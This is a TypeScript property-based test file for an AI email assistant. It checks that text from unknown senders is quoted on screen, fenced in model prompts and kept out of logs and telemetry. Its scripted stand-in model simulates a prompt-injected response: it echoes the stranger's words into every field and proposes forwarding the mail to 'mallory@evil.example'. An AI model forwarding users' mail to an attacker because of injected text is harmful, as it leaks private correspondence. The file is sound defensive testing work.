import type { ModelRequest } from '@tact/core/ports/model';
import type { ScriptedAnswer } from '@tact/testing';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { formatCard } from '#cli/output/approval-card';
import { formatDecisionLine, formatDecisions } from '#cli/output/decision-table';
import { formatEffect, formatTroubles } from '#cli/output/effect-lines';
import { formatExplanation } from '#cli/output/explained-stages';
import { createPaint } from '#cli/output/paint';
import type { Screen } from '#cli/output/screen';
import {
  type HostilePart,
  hostileMail,
  hostileTexts,
  markerOf,
  outsideFences,
  outsideQuotations,
} from '../examples/hostile-mail.ts';
import { type MailRuntime, openMailRuntime } from './mail-runtime.ts';
import { decisionInput } from './model-answers.ts';

/**
 * Nothing that a stranger wrote is displayed but quoted, or put to a model but fenced, and nothing of it reaches the log or telemetry.
 * The twin of each: it does stand there.
 */

const rules = '[[directions]]\nid = "words"\ntext = "Keep my secrets."\n';
/** What passes for a quotation mark of ours, combines with it, or covers its surroundings. */
const imitations = /[„‟«»″＂]|’’|^\p{M}|\u035c$|\p{M}{5}/u;

const runs = { numRuns: 12 };

/** What is asked of the model: first a note, which is safe and done; then, in the same thread, a forward, which asks. */
async function decideBoth(texts: Readonly<Record<HostilePart, string>>): Promise<MailRuntime> {
  const runtime = await openMailRuntime('memory', { rules, model: (request) => repeats(request, texts) });
  await runtime.decide(hostileMail(texts, { number: 1 }));
  await runtime.decide(hostileMail(texts, { number: 2, inReplyTo: 1 }));
  return runtime;
}

/** The same mail where no model is asked: what is shown are our own words about it. */
async function decideAlone(texts: Readonly<Record<HostilePart, string>>): Promise<MailRuntime> {
  const runtime = await openMailRuntime('memory');
  await runtime.decide(hostileMail(texts, { number: 1 }));
  return runtime;
}

/** A model that repeats a stranger's words wherever an answer has room for words. */
function repeats(
  request: ModelRequest,
  { body, subject }: Readonly<Record<HostilePart, string>>,
): ScriptedAnswer {
  const [tool] = request.tools;
  if (tool?.name === 'record_direction_check') {
    return {
      toolCalls: [{ name: tool.name, input: { checks: [{ direction: 1, kept: false, why: body }] } }],
    };
  }
  const isFirst = !request.messages.some(({ text }) => text.includes('Earlier in this thread'));
  const decided = decisionInput(request, {
    ...(isFirst
      ? { action: 'add_note', parameters: { text: `${subject} ${body}`.slice(0, 400) } }
      : { action: 'forward', parameters: { to: ['mallory@evil.example'], note: body } }),
    rationale: `${subject} ${body}`,
  });
  const explanations = {
    salient_features: [body],
    matched_directions: [subject],
    considered_alternatives: [{ action: 'delete', confidence: 0.2, why_not: body }],
  };
  return { toolCalls: [{ name: 'record_decision', input: { ...decided, explanations } }] };
}

/** Everything that the command line shows of it; columns that stand side by side are wide enough to need one line. */
async function shownBy({ assistant, clock }: MailRuntime): Promise<readonly string[]> {
  const { runtime } = assistant;
  const { registry } = runtime;
  const decisions = await assistant.log();
  const approvals = await assistant.approvals();
  const explanations = await Promise.all(decisions.map(({ id }) => assistant.explain(id)));
  const effects = explanations.flatMap((explained) => explained.effects);
  return [40, 80, 400].flatMap((width) => {
    const screen = screenOf(width);
    return [
      formatDecisions(decisions, { registry, withTime: true }, screen),
      ...decisions.map((decision) => formatDecisionLine(decision, registry, screen)),
      ...approvals.map((approval) => formatCard(approval, clock.now(), screen)),
      ...explanations.map((explained) =>
        withoutPromptLines(formatExplanation(explained, { runtime, isWhole: true }, screen)),
      ),
      ...effects.map((effect) => formatEffect(effect, registry, screen.paint)),
      ...formatTroubles(effects, screen.paint),
    ];
  });
}

/** The prompt and the answer are shown as they were sent, each of their lines behind a bar at its start. */
function withoutPromptLines(explanation: string): string {
  return explanation
    .split('\n')
    .filter((line) => !line.startsWith('    │ '))
    .join('\n');
}

function screenOf(width: number): Screen {
  return {
    width,
    isTerminal: true,
    hasColour: false,
    paint: createPaint(false),
    time: String,
    line() {},
    page() {},
    record() {},
    status() {},
  };
}

test('what a stranger wrote is shown inside our quotation marks and nowhere else', async () => {
  await fc.assert(
    fc.asyncProperty(hostileTexts, async (texts) => {
      const shown = [
        ...(await shownBy(await decideBoth(texts))),
        ...(await shownBy(await decideAlone(texts))),
      ];

      for (const text of shown) {
        expect(outsideQuotations(text)).toEqual([]);
        for (const [, inside] of text.matchAll(/“([^“”]*)”/gu)) expect(inside).not.toMatch(imitations);
        expect(text).not.toMatch(/(?!\n)\p{Cc}|[\p{Cf}\p{Zl}\p{Zp}]/u);
      }
      for (const part of ['subject', 'fromname', 'body'] as const)
        expect(shown.join()).toContain(markerOf(part));
    }),
    runs,
  );
});

test('what a stranger wrote reaches the model inside a fence and nowhere else', async () => {
  await fc.assert(
    fc.asyncProperty(hostileTexts, async (texts) => {
      const { model } = await decideBoth(texts);
      const prompts = (model?.requests ?? []).flatMap(({ messages }) => messages.map(({ text }) => text));

      expect(model?.unscripted).toEqual([]);
      for (const prompt of prompts) expect(outsideFences(prompt)).toEqual([]);
      const sent = prompts.join('\n');
      for (const part of ['subject', 'fromname', 'toname', 'body', 'attachment', 'summary', 'location'])
        expect(sent).toContain(markerOf(part));
      expect(sent).not.toContain(markerOf('hidden'));
      // The name before the id of a list is free text where nobody reads it.
      expect(sent).not.toContain(markerOf('listid'));
      expect(sent).toContain('List-Id: <list.example.net>');
    }),
    runs,
  );
});

test('nothing that a stranger wrote reaches the log or telemetry', async () => {
  await fc.assert(
    fc.asyncProperty(hostileTexts, async (texts) => {
      const { log, telemetry } = await decideBoth(texts);
      const told = JSON.stringify([log.events, telemetry.spans]);

      expect(telemetry.spans.map(({ name }) => name)).toContain('propose');
      expect(told).not.toMatch(/zq\w+?qz/);
    }),
    runs,
  );
});
